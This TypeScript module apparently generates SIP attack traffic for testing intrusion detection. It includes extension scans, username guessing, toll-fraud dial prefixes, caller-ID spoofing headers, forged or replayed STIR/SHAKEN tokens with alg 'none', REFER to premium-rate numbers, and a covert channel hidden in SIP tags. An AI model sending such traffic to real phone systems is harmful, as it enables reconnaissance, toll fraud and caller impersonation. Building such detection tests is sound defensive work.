import { DOMAIN, EDGE } from '../traffic/edge.ts'
import { type AttackClass, attack, type Field, PROBES, SCAN } from './field.ts'

const WISH = '4, intrusion detection'
const REGISTRAR = `sip:${DOMAIN}`

/** Who is there, what numbers lead outside, and whose word is taken. */
export const SCANS: readonly AttackClass[] = [
  attack(
    ['G01', 'host-scan', WISH],
    { high: [40, 50], medium: [30, 2000], slow: [30, 600_000], isTool: true },
    field => i => {
      const from = { uri: 'sip:100@1.1.1.1', display: 'scan', tag: field.random.hex(32) }
      field.send(i, 'OPTIONS', {
        uri: `sip:${field.user('100')}@${EDGE.ip}`,
        to: { uri: 'sip:100@1.1.1.1' },
        from,
      })
    },
  ),
  attack(
    ['G02', 'extensions-by-register', WISH],
    { ...SCAN, isTool: true },
    field => i => extension(field, i, 'REGISTER'),
  ),
  attack(['G02', 'extensions-by-invite', WISH], SCAN, field => i => extension(field, i, 'INVITE')),
  attack(['G02', 'extensions-by-options', WISH], SCAN, field => i => extension(field, i, 'OPTIONS')),
  attack(['G02', 'extensions-by-subscribe', WISH], SCAN, field => i => extension(field, i, 'SUBSCRIBE')),
  attack(['G02', 'names-from-a-list', WISH], SCAN, field => i => {
    const uri = field.uri(`${NAMES[i % NAMES.length]}${i >= NAMES.length ? i : ''}`)
    field.send(i, 'REGISTER', { uri: REGISTRAR, to: { uri }, from: { uri, tag: field.random.hex(8) } })
  }),
  attack(['G02', 'insider-looks-around', WISH], SCAN, field => i => {
    const phone = field.insider(i)
    field.run(
      phone.ask(
        phone.request('INVITE', { uri: field.uri(`5${String(i).padStart(2, '0')}`), contact: phone.contact }),
      ),
    )
  }),
  attack(['G04', 'random-habits', WISH], SCAN, field => i => {
    const uri = field.uri(String(200 + field.random.below(90_000)))
    const headers = [['Subject', field.random.hex(9)]] as const
    field.send(i, 'REGISTER', {
      uri: REGISTRAR,
      to: { uri },
      from: { uri, tag: field.random.hex(20) },
      headers,
    })
  }),
  attack(
    ['G05', 'one-probe-a-source', WISH],
    { high: [2000, 20], medium: [1500, 200], slow: [1500, 30_000], sources: 2000 },
    field => i => {
      extension(field, i, 'REGISTER')
    },
  ),
  attack(
    ['G05', 'one-options-a-source', WISH],
    { high: [2000, 20], medium: [1500, 200], slow: [1500, 30_000], sources: 2000 },
    field => i => {
      extension(field, i, 'OPTIONS')
    },
  ),
  attack(['G06', 'dial-prefixes', 'unauthorised access'], SCAN, field => i => prefix(field, i, DOMAIN)),
  attack(
    ['G06', 'dial-prefixes-by-address', 'unauthorised access'],
    SCAN,
    field => i => prefix(field, i, EDGE.ip),
  ),
  attack(['G06', 'insider-dial-prefixes', 'unauthorised access'], SCAN, field => i => {
    const phone = field.insider(i, 1)
    field.run(
      phone.ask(
        phone.request('INVITE', {
          uri: field.uri(`${PREFIXES[i % PREFIXES.length]}${NUMBER}`),
          contact: phone.contact,
        }),
      ),
    )
  }),
  attack(['D01', 'from-of-ours', 'Table 1, spoofing'], PROBES, field => i => {
    const [from, to] = [field.target(i), field.victim(i + 1)]
    field.send(i, 'INVITE', { uri: to.uri, to, from: { uri: from.uri, tag: field.random.hex(6) } })
  }),
  attack(['D02', 'asserted-identity', '3.3 intermediate proxy'], PROBES, field => i => {
    const { uri } = field.victim(i)
    const headers = [
      ['P-Asserted-Identity', `<${field.victim(i + 1).uri}>`],
      ['Remote-Party-ID', '<sip:boss@example.test>;party=calling'],
    ] as const
    field.send(i, 'INVITE', { uri, to: { uri }, headers })
  }),
  attack(['D03', 'identity-unsigned', '3.3 token'], PROBES, field => i => {
    const { uri } = field.victim(i)
    field.send(i, 'INVITE', { uri, to: { uri }, headers: [['Identity', token(field.random.hex(20))]] })
  }),
  attack(['D04', 'identity-replayed', '3.3 token'], PROBES, field => {
    const kept = token(field.random.hex(20))
    return i => {
      const { uri } = field.victim(i)
      field.send(i, 'INVITE', { uri, to: { uri }, headers: [['Identity', kept]] })
    }
  }),
  attack(['D06', 'referred-by-forged', '3.3 REFER'], PROBES, field => i => {
    const { uri } = field.victim(i)
    field.send(i, 'INVITE', { uri, to: { uri }, headers: [['Referred-By', `<${field.victim(i + 1).uri}>`]] })
  }),
  attack(['D08', 'refer-to-premium', '3.3 REFER'], PROBES, field => i => {
    const { uri } = field.target(i)
    field.send(i, 'REFER', {
      uri,
      to: { uri },
      headers: [['Refer-To', `<sip:+1900${field.random.digits(7)}@${DOMAIN}>`]],
    })
  }),
  attack(['D11', 'anonymous-callers', '3.3 privacy'], PROBES, field => i => {
    const { uri } = field.victim(i)
    const from = { uri: 'sip:anonymous@anonymous.invalid', display: 'Anonymous', tag: field.random.hex(6) }
    field.send(i, 'INVITE', { uri, to: { uri }, from, headers: [['Privacy', 'id']] })
  }),
  attack(['G12', 'covert-channel', WISH], PROBES, field => i => {
    const phone = field.stranger(i)
    const request = phone.request('OPTIONS', {
      uri: `sip:${DOMAIN}`,
      from: { uri: 'sip:x@192.0.2.3', tag: secret(field, 180) },
    })
    field.edge.ask(phone, { ...request, branch: `z9hG4bK${secret(field, 200)}`, callId: secret(field, 200) })
  }),
  attack(['G13', 'signalling-of-the-telephone-network', '3.1 PSTN'], PROBES, field => i => {
    const { uri } = field.victim(i)
    const phone = field.stranger(i)
    const request = {
      ...phone.request('INVITE', { uri, body: '\x01\x00\x49\x00\x00\x03\x02\x00' }),
      bodyType: 'application/isup;version=itu-t92+',
    }
    field.edge.ask(phone, request)
  }),
]

const NAMES = [
  'admin',
  'test',
  'guest',
  'reception',
  'info',
  'sales',
  'fax',
  'voicemail',
  'pbx',
  'root',
  'conference',
]
const NUMBER = '441632960123'
const PREFIXES = [
  '',
  '0',
  '00',
  '000',
  '9',
  '900',
  '9000',
  '011',
  '9011',
  '8',
  '800',
  '+',
  '1',
  '100',
  '99',
  '9900',
  '810',
  '7',
]

function extension(field: Field, i: number, method: string): void {
  const uri = field.uri(String(100 + i))
  const target = method === 'REGISTER' ? REGISTRAR : uri
  field.send(i, method, { uri: target, to: { uri }, from: { uri, tag: field.random.hex(8) } })
}

function prefix(field: Field, i: number, host: string): void {
  const number = `${PREFIXES[i % PREFIXES.length]}${i >= PREFIXES.length ? i : ''}${NUMBER}`
  const uri = `sip:${field.user(number)}@${host}`
  field.send(i, 'INVITE', { uri, to: { uri }, from: { uri: field.uri('1001'), tag: field.random.hex(8) } })
}

function token(seed: string): string {
  const part = Buffer.from(`{"alg":"none","x":"${seed}"}`).toString('base64url')
  return `${part}.${part}.AAAA;info=<https://192.0.2.9/cert>;alg=ES256;ppt=shaken`
}

/** What was smuggled out, as letters. */
function secret({ random }: Field, octets: number): string {
  return Buffer.from(random.hex(octets * 2), 'hex')
    .toString('base64url')
    .slice(0, octets)
}
